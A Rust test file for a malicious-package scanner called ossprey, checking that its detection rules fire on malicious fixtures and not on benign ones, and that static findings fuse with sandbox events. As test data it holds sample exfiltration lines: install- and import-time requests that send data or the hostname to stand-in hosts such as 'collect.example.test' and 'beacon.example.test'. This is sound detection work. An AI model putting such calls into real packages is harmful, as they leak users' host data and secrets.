//! Every rule runs on its two fixtures: `fixtures/<ID>/malicious/` must make it
//! fire and `fixtures/<ID>/benign/` (a look-alike an ordinary package could
//! contain) must not. The findings on the malicious fixture are snapshotted.
//!
//! Behaviour rules (`DYN-…`) read sandbox events instead of files: their fixture is
//! `behaviour.json` in each side's directory, `{"package": PackageRef, "dynamic":
//! DynamicResult}` with the events written the way the tracer and the sinkhole record
//! them (`crates/ossprey/tests/behaviour.rs` shows real ones). Fields every event has
//! but no rule reads (durations, isolation, byte counts, …) may be left out; the test
//! fills them in before deserialising, so a fixture shows only what matters. They run
//! through [`ossprey_rules::fuse`], the path `analyze` takes.
//!
//! Fixtures are inert imitations written for these tests; none is real malware
//! and nothing here runs them.

use std::path::{Path, PathBuf};

use ossprey_archive::Limits;
use ossprey_model::{Category, DynamicResult, Finding, PackageRef, Severity, Verdict};
use ossprey_rules::{Analysis, Rule};
use ossprey_static::PackageFiles;
use serde_json::{Value, json};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures")
}

fn analyze_dir(dir: &Path) -> Analysis {
    let files = PackageFiles::collect_path(dir, &Limits::default())
        .unwrap_or_else(|e| panic!("reading fixture {}: {e}", dir.display()));
    let ecosystem = ossprey_static::detect_ecosystem(&files, None);
    ossprey_rules::analyze(
        &files,
        ossprey_rules::Options {
            ecosystem,
            ..Default::default()
        },
    )
}

fn fired<'a>(analysis: &'a Analysis, rule: &dyn Rule) -> Vec<&'a Finding> {
    analysis
        .evaluation
        .findings
        .iter()
        .filter(|f| f.rule == rule.id())
        .collect()
}

/// Inserts `defaults` into `v` where a key is missing.
fn fill(v: &mut Value, defaults: Value) {
    if let (Value::Object(map), Value::Object(defaults)) = (v, defaults) {
        for (k, d) in defaults {
            map.entry(k).or_insert(d);
        }
    }
}

/// Fills every item of the array `v` (indexing a missing key yields `Null`: skipped).
fn fill_each(v: &mut Value, defaults: &Value) {
    if let Some(items) = v.as_array_mut() {
        for item in items {
            fill(item, defaults.clone());
        }
    }
}

/// Completes a fixture's phase with the fields the model requires.
fn complete_phase(phase: &mut Value) {
    fill(
        phase,
        json!({
            "status": "completed", "duration_ms": 1000, "command": [], "processes": [],
            "files": [], "sockets": [], "network": {},
            "stdout": {"text": "", "total_bytes": 0, "truncated": false},
            "stderr": {"text": "", "total_bytes": 0, "truncated": false},
            "isolation": {"interfaces": ["lo"], "landlock": "enforced", "cgroup": true},
        }),
    );
    fill(
        &mut phase["network"],
        json!({"dns": [], "connections": [], "datagrams": []}),
    );
    if let Some(processes) = phase["processes"].as_array_mut() {
        for p in processes {
            let last_argv = p["execs"]
                .as_array()
                .and_then(|e| e.last())
                .map(|e| e["argv"].clone())
                .unwrap_or(json!([]));
            fill(
                p,
                json!({"command": last_argv, "outlived_main": false, "killed_at_end": false}),
            );
            if let Some(execs) = p.get_mut("execs") {
                fill_each(execs, &json!({"ok": true}));
            }
        }
    }
    fill_each(
        &mut phase["files"],
        &json!({"read": false, "write": false, "create": false, "delete": false, "succeeded": true, "pids": []}),
    );
    fill_each(
        &mut phase["network"]["dns"],
        &json!({"type": "A", "resolver": "10.0.2.3", "transport": "udp", "time_ms": 0}),
    );
    fill_each(
        &mut phase["network"]["connections"],
        &json!({"protocol": "tcp", "time_ms": 0, "duration_ms": 0, "bytes_total": 0,
                "bytes_prefix_base64": "", "truncated": false}),
    );
    if let Some(conns) = phase["network"]["connections"].as_array_mut() {
        for c in conns.iter_mut().filter_map(|c| c.get_mut("http")) {
            fill_each(
                c,
                &json!({"headers": [], "body_base64": "", "body_len": 0, "body_truncated": false}),
            );
        }
    }
    fill_each(
        &mut phase["network"]["datagrams"],
        &json!({"time_ms": 0, "bytes_total": 0, "bytes_prefix_base64": "", "truncated": false}),
    );
}

/// Runs fusion over a behaviour fixture (no static findings) and returns what
/// `rule` found.
fn behaviour_findings(dir: &Path, rule: &dyn Rule) -> Vec<Finding> {
    fuse_fixture(dir, Vec::new())
        .findings
        .into_iter()
        .filter(|f| f.rule == rule.id())
        .collect()
}

/// Fuses `static_findings` with the behaviour fixture in `dir`.
fn fuse_fixture(dir: &Path, static_findings: Vec<Finding>) -> ossprey_rules::Evaluation {
    let path = dir.join("behaviour.json");
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
    let mut v: Value = serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("{} is not JSON: {e}", path.display()));
    for phase in ["install", "import", "execute"] {
        if v["dynamic"].get(phase).is_some() {
            complete_phase(&mut v["dynamic"][phase]);
        }
    }
    if let Some(hits) = v
        .pointer_mut("/dynamic/honeytokens/hits")
        .and_then(Value::as_array_mut)
    {
        for h in hits {
            fill(h, json!({"time_ms": 0, "token_prefix": ""}));
        }
    }
    let package: Option<PackageRef> = serde_json::from_value(v["package"].clone())
        .unwrap_or_else(|e| panic!("{}: package: {e}", path.display()));
    let dynamic: DynamicResult = serde_json::from_value(v["dynamic"].clone())
        .unwrap_or_else(|e| panic!("{}: dynamic: {e}", path.display()));
    let fused = ossprey_rules::fuse(
        static_findings,
        &ossprey_rules::FusionInput {
            package: package.as_ref(),
            manifest: None,
            dynamic: &dynamic,
            suppressions: None,
            artifact_sha256: None,
        },
    );
    fused.evaluation
}

fn is_behaviour_rule(rule: &dyn Rule) -> bool {
    ossprey_rules::rules::behaviour::RULES
        .iter()
        .any(|r| r.id() == rule.id())
}

#[test]
fn every_rule_fires_on_its_malicious_fixture_and_not_on_its_benign_one() {
    let mut failures = Vec::new();
    for rule in ossprey_rules::rules::all() {
        let dir = fixtures().join(rule.id());
        for side in ["malicious", "benign"] {
            if !dir.join(side).is_dir() {
                failures.push(format!(
                    "{}: missing fixture {}/{side}/",
                    rule.id(),
                    dir.display()
                ));
            }
        }
        if !dir.join("benign").is_dir() || !dir.join("malicious").is_dir() {
            continue;
        }
        if is_behaviour_rule(*rule) {
            let found = behaviour_findings(&dir.join("malicious"), *rule);
            if found.is_empty() {
                failures.push(format!(
                    "{}: did not fire on its malicious behaviour fixture",
                    rule.id()
                ));
            } else {
                insta::assert_json_snapshot!(rule.id(), found);
            }
            let found = behaviour_findings(&dir.join("benign"), *rule);
            if !found.is_empty() {
                failures.push(format!(
                    "{}: fired on its benign behaviour fixture: {found:#?}",
                    rule.id()
                ));
            }
            continue;
        }
        let malicious = analyze_dir(&dir.join("malicious"));
        let found = fired(&malicious, *rule);
        if found.is_empty() {
            failures.push(format!(
                "{}: did not fire on its malicious fixture (findings: {:?})",
                rule.id(),
                malicious
                    .evaluation
                    .findings
                    .iter()
                    .map(|f| &f.rule)
                    .collect::<Vec<_>>()
            ));
        } else {
            insta::assert_json_snapshot!(rule.id(), found);
        }
        let benign = analyze_dir(&dir.join("benign"));
        let found = fired(&benign, *rule);
        if !found.is_empty() {
            failures.push(format!(
                "{}: fired on its benign fixture: {found:#?}",
                rule.id()
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} rule fixture failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn rule_ids_are_unique_and_stable_shaped() {
    let mut seen = std::collections::BTreeSet::new();
    for rule in ossprey_rules::rules::all() {
        let id = rule.id();
        assert!(seen.insert(id), "duplicate rule id {id}");
        assert!(
            !id.is_empty()
                && id
                    .chars()
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '-'),
            "rule id {id} must be UPPER-KEBAB"
        );
        assert!(!rule.summary().is_empty(), "{id} has no summary");
    }
}

fn static_finding(rule: &str, category: Category, file: &str, line: u32, snippet: &str) -> Finding {
    ossprey_rules::finding(
        rule,
        Severity::Medium,
        category,
        "static",
        Some(file),
        Some(line),
        Some(snippet),
    )
}

#[test]
fn fusion_proof_of_exfiltration_is_malicious_and_links_the_static_call_site() {
    let dir = fixtures().join("DYN-HONEYTOKEN-EGRESS/malicious");
    let call = static_finding(
        "JS-INSTALL-NETWORK",
        Category::NETWORK,
        "package/install.js",
        7,
        "https.request({ host: 'collect.example.test', path: '/k', method: 'POST' })",
    );
    let e = fuse_fixture(&dir, vec![call]);
    assert_eq!((e.score, e.verdict), (10.0, Verdict::Malicious), "{e:#?}");
    let egress = e
        .findings
        .iter()
        .find(|f| f.rule == "DYN-HONEYTOKEN-EGRESS")
        .expect("egress finding");
    assert_eq!(egress.evidence.file.as_deref(), Some("package/install.js"));
    assert_eq!(egress.evidence.line, Some(7));
    assert!(
        egress
            .notes
            .iter()
            .any(|n| n.contains("package/install.js:7")),
        "{egress:#?}"
    );
    let stat = e
        .findings
        .iter()
        .find(|f| f.rule == "JS-INSTALL-NETWORK")
        .expect("static finding kept");
    assert!(
        stat.notes
            .iter()
            .any(|n| n.starts_with("seen in the sandbox")),
        "{stat:#?}"
    );
    assert_eq!(stat.severity, Severity::High, "confirmed: one step up");
}

#[test]
fn fusion_notes_a_static_suspicion_the_sandbox_never_saw_and_keeps_its_weight() {
    // Install and import completed; the only traffic went to the registry.
    let dir = fixtures().join("DYN-RECON-COMMANDS/benign");
    let call = static_finding(
        "PY-INSTALL-NETWORK",
        Category::NETWORK,
        "setup.py",
        3,
        "urllib.request.urlopen('http://beacon.example.test/x')",
    );
    let alone = ossprey_rules::evaluate_findings(vec![call.clone()]);
    let e = fuse_fixture(&dir, vec![call]);
    assert_eq!(e.score, alone.score, "weight unchanged");
    let f = &e.findings[0];
    assert!(
        f.notes
            .iter()
            .any(|n| n.starts_with("not seen in the sandbox: install ran to completion")),
        "{f:#?}"
    );
    // Seen: a phase that reached a non-registry host gets no such note.
    let seen = fuse_fixture(
        &fixtures().join("DYN-INSTALL-IMPORT-NETWORK/malicious"),
        vec![static_finding(
            "PY-IMPORT-TIME-EXEC",
            Category::NETWORK,
            "beacon_lib/__init__.py",
            2,
            "urlopen('http://beacon.example.test/b?h=' + socket.gethostname())",
        )],
    );
    let f = seen
        .findings
        .iter()
        .find(|f| f.rule == "PY-IMPORT-TIME-EXEC")
        .expect("static finding");
    assert!(
        f.notes.iter().all(|n| !n.starts_with("not seen")) && !f.notes.is_empty(),
        "{f:#?}"
    );
}
